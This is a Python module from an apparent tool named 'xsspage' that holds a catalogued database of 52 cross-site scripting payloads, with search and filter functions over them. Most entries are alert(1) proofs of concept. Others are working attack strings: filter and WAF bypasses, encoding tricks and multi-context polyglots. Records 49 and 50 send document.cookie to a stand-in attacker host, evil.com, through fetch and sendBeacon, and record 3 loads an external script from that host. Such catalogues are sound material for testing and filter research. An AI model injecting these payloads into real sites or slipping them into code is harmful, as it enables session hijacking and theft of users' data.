"""Reference database of well-known XSS payloads.

Every record names the technique it demonstrates, the injection context it
targets and the browsers it works in (``"all"`` when it is not browser
specific). ``search_payloads`` is the query behind ``/api/search`` and
``xsspage search``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from xsspage.core.severity import Severity

# Browser tag meaning "works everywhere".
ALL_BROWSERS = "all"


@dataclass(frozen=True)
class PayloadRecord:
    id: int
    payload: str
    category: str
    technique: str
    context: str
    description: str
    severity: Severity
    browsers: tuple[str, ...] = field(default=(ALL_BROWSERS,))

    def matches_text(self, needle: str) -> bool:
        """Case-insensitive substring test over the searchable fields."""
        needle = needle.lower()
        return any(
            needle in value.lower()
            for value in (self.payload, self.description, self.technique, self.category)
        )

    def supports_browser(self, browser: str) -> bool:
        return browser in self.browsers or ALL_BROWSERS in self.browsers

    def to_dict(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "payload": self.payload,
            "category": self.category,
            "technique": self.technique,
            "context": self.context,
            "description": self.description,
            "severity": self.severity.label,
            "browsers": list(self.browsers),
        }


_H = Severity.HIGH
_C = Severity.CRITICAL
_M = Severity.MEDIUM
_L = Severity.LOW

PAYLOADS: tuple[PayloadRecord, ...] = (
    # Script tags
    PayloadRecord(1, "<script>alert(1)</script>", "basic", "script-tag", "html",
                  "Classic XSS payload using script tag", _H),
    PayloadRecord(2, "<script>alert(document.domain)</script>", "basic", "script-tag", "html",
                  "Display current domain", _H),
    PayloadRecord(3, '<script src="//evil.com/xss.js"></script>', "basic", "script-tag", "html",
                  "External script injection", _C),

    # Event handlers
    PayloadRecord(4, "<img src=x onerror=alert(1)>", "event-handler", "onerror", "html",
                  "Image error event handler", _H),
    PayloadRecord(5, "<body onload=alert(1)>", "event-handler", "onload", "html",
                  "Body onload event", _H),
    PayloadRecord(6, "<svg onload=alert(1)>", "event-handler", "onload", "html",
                  "SVG onload event", _H),
    PayloadRecord(7, "<input onfocus=alert(1) autofocus>", "event-handler", "onfocus", "html",
                  "Input focus with autofocus", _H),
    PayloadRecord(8, "<marquee onstart=alert(1)>", "event-handler", "onstart", "html",
                  "Marquee onstart event", _M, ("chrome", "edge")),
    PayloadRecord(9, "<details open ontoggle=alert(1)>", "event-handler", "ontoggle", "html",
                  "Details toggle event", _H),

    # SVG
    PayloadRecord(10, "<svg><script>alert(1)</script></svg>", "svg", "svg-script", "html",
                  "Script inside SVG", _H),
    PayloadRecord(11, "<svg><animate onbegin=alert(1) attributeName=x>", "svg", "svg-animate",
                  "html", "SVG animate onbegin", _H, ("firefox", "chrome")),
    PayloadRecord(12, '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">XSS</text></a></svg>',
                  "svg", "svg-link", "html", "SVG link with JavaScript protocol", _H),

    # HTML5 tags
    PayloadRecord(13, "<video src=x onerror=alert(1)>", "html5", "video", "html",
                  "Video tag error event", _H),
    PayloadRecord(14, "<audio src=x onerror=alert(1)>", "html5", "audio", "html",
                  "Audio tag error event", _H),
    PayloadRecord(15, '<iframe src="javascript:alert(1)">', "html5", "iframe", "html",
                  "Iframe with JavaScript protocol", _C),
    PayloadRecord(16, '<object data="javascript:alert(1)">', "html5", "object", "html",
                  "Object with JavaScript data", _C),
    PayloadRecord(17, '<embed src="javascript:alert(1)">', "html5", "embed", "html",
                  "Embed with JavaScript source", _C),

    # JavaScript string context
    PayloadRecord(18, "'; alert(1); //", "javascript", "string-break", "javascript",
                  "Break out of JavaScript string", _H),
    PayloadRecord(19, '"; alert(1); //', "javascript", "string-break", "javascript",
                  "Break out of double-quoted string", _H),
    PayloadRecord(20, "-alert(1)-", "javascript", "arithmetic", "javascript",
                  "Arithmetic operator injection", _M),
    PayloadRecord(21, "${alert(1)}", "javascript", "template-literal", "javascript",
                  "Template literal injection", _H),

    # URL and attribute context
    PayloadRecord(22, "javascript:alert(1)", "url", "javascript-protocol", "url",
                  "JavaScript protocol in href", _H),
    PayloadRecord(23, "data:text/html,<script>alert(1)</script>", "url", "data-url", "url",
                  "Data URL with HTML", _C),
    PayloadRecord(24, '" onclick="alert(1)', "attribute", "attribute-break", "attribute",
                  "Break out of attribute to add event", _H),
    PayloadRecord(25, '" autofocus onfocus="alert(1)', "attribute", "attribute-break", "attribute",
                  "Attribute with autofocus trick", _H),

    # Filter bypasses
    PayloadRecord(26, "<scr<script>ipt>alert(1)</scr<script>ipt>", "bypass", "nested-tags", "html",
                  "Bypass tag stripping filters", _M),
    PayloadRecord(27, '<img src=x onerror="alert(1)"', "bypass", "unclosed-tag", "html",
                  "Unclosed tag to bypass parsing", _M),
    PayloadRecord(28, "<img src=x oneRRor=alert(1)>", "bypass", "case-variation", "html",
                  "Case variation bypass", _L),
    PayloadRecord(29, "<img src=x onerror=alert`1`>", "bypass", "template-literal", "html",
                  "Template literal instead of parentheses", _M),
    PayloadRecord(30, "<svg/onload=alert(1)>", "bypass", "slash-separator", "html",
                  "Slash as attribute separator", _M),

    # Encoding tricks
    PayloadRecord(31, "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
                  "encoding", "html-entities", "html", "HTML entity encoding", _M),
    PayloadRecord(32, '<img src=x onerror="\\u0061\\u006c\\u0065\\u0072\\u0074(1)">',
                  "encoding", "unicode", "html", "Unicode escape sequences", _M),
    PayloadRecord(33, '<img src=x onerror="\\x61\\x6c\\x65\\x72\\x74(1)">',
                  "encoding", "hex", "html", "Hex escape sequences", _M),
    PayloadRecord(34, '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
                  "encoding", "base64", "html", "Base64 encoded payload", _H),

    # Polyglots
    PayloadRecord(
        35,
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//",
        "polyglot", "multi-context", "multi", "XSS polyglot for multiple contexts", _C,
    ),
    PayloadRecord(
        36,
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
        "</noembed></script><html \\\" onmouseover=/*&lt;svg/*/onload=alert()//>",
        "polyglot", "multi-context", "multi", "Another XSS polyglot", _C,
    ),

    # DOM-based
    PayloadRecord(37, "#<img src=x onerror=alert(1)>", "dom", "hash-injection", "dom",
                  "DOM-based via URL hash", _H),
    PayloadRecord(38, "?search=<script>alert(1)</script>", "dom", "query-injection", "dom",
                  "DOM-based via query parameter", _H),

    # WAF bypasses
    PayloadRecord(39, "<img src=x:alert(1) onerror=eval(src)>", "waf-bypass", "eval-src", "html",
                  "Bypass using eval with src attribute", _H),
    PayloadRecord(40, "<svg><script>alert&#40;1)</script>", "waf-bypass", "entity-bypass", "html",
                  "HTML entity in parentheses", _M),
    PayloadRecord(41, "<img src=x onerror=alert(String.fromCharCode(88,83,83))>", "waf-bypass",
                  "fromCharCode", "html", "Obfuscation using fromCharCode", _M),

    # Less common vectors
    PayloadRecord(42, '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
                  "advanced", "link-import", "html", "HTML import with data URL", _H,
                  ("chrome-old",)),
    PayloadRecord(43, '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
                  "advanced", "meta-refresh", "html", "Meta refresh with JavaScript", _H),
    PayloadRecord(44, '<form action="javascript:alert(1)"><input type="submit">',
                  "advanced", "form-action", "html", "Form with JavaScript action", _M),
    PayloadRecord(45, '<button formaction="javascript:alert(1)">X</button>',
                  "advanced", "formaction", "html", "Button formaction attribute", _M),
    PayloadRecord(46, '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
                  "advanced", "mathml", "html", "MathML XSS vector", _M, ("firefox",)),

    # IE and legacy Edge
    PayloadRecord(47, "<img src=x:alert(1) onerror=eval(src) alt=``,``>", "legacy", "ie-quirks",
                  "html", "IE-specific eval bypass", _M, ("ie", "edge-legacy")),
    PayloadRecord(48, "<style>@import'javascript:alert(1)';</style>", "legacy", "css-import",
                  "html", "CSS import with JavaScript (IE)", _L, ("ie",)),

    # Modern vectors
    PayloadRecord(49, "<img src onerror=\"fetch('//evil.com?'+document.cookie)\">", "modern",
                  "exfiltration", "html", "Cookie exfiltration using fetch", _C),
    PayloadRecord(50, "<img src onerror=\"navigator.sendBeacon('//evil.com',document.cookie)\">",
                  "modern", "beacon", "html", "Data exfiltration using sendBeacon", _C),
    PayloadRecord(51, "<script>import('data:text/javascript,alert(1)')</script>", "modern",
                  "dynamic-import", "html", "Dynamic import with data URL", _H, ("modern",)),
    PayloadRecord(52, '<iframe srcdoc="<script>parent.alert(1)</script>">', "modern", "srcdoc",
                  "html", "Iframe srcdoc attribute", _H),
)

# Category id -> display name, in catalog order.
PAYLOAD_CATEGORIES: dict[str, str] = {
    "basic": "Basic",
    "event-handler": "Event Handlers",
    "svg": "SVG-based",
    "html5": "HTML5 Tags",
    "javascript": "JavaScript Context",
    "url": "URL Context",
    "attribute": "Attribute Context",
    "bypass": "Filter Bypasses",
    "encoding": "Encoding Tricks",
    "polyglot": "Polyglots",
    "dom": "DOM-based",
    "waf-bypass": "WAF Bypasses",
    "advanced": "Advanced",
    "legacy": "IE/Legacy",
    "modern": "Modern",
}


def category_counts() -> dict[str, int]:
    """Number of records per category, with ``all`` first."""
    counts = {"all": len(PAYLOADS)}
    for category in PAYLOAD_CATEGORIES:
        counts[category] = sum(1 for p in PAYLOADS if p.category == category)
    return counts


def get_payloads_by_category(category: str | None) -> list[PayloadRecord]:
    """Records in *category*; everything for ``all`` or no category."""
    if not category or category == "all":
        return list(PAYLOADS)
    return [p for p in PAYLOADS if p.category == category]


def search_payloads(
    query: str = "",
    *,
    category: str | None = None,
    severity: str | None = None,
    context: str | None = None,
    browser: str | None = None,
) -> list[PayloadRecord]:
    """Filter the database.

    ``query`` is a case-insensitive substring matched against the payload,
    description, technique and category. The other filters are exact; a
    browser filter also keeps records marked ``all``. Empty filters are
    ignored. Results keep database order.
    """
    results = list(PAYLOADS)
    if query:
        results = [p for p in results if p.matches_text(query)]
    if category:
        results = [p for p in results if p.category == category]
    if severity:
        results = [p for p in results if p.severity.label == severity]
    if context:
        results = [p for p in results if p.context == context]
    if browser:
        results = [p for p in results if p.supports_browser(browser)]
    return results
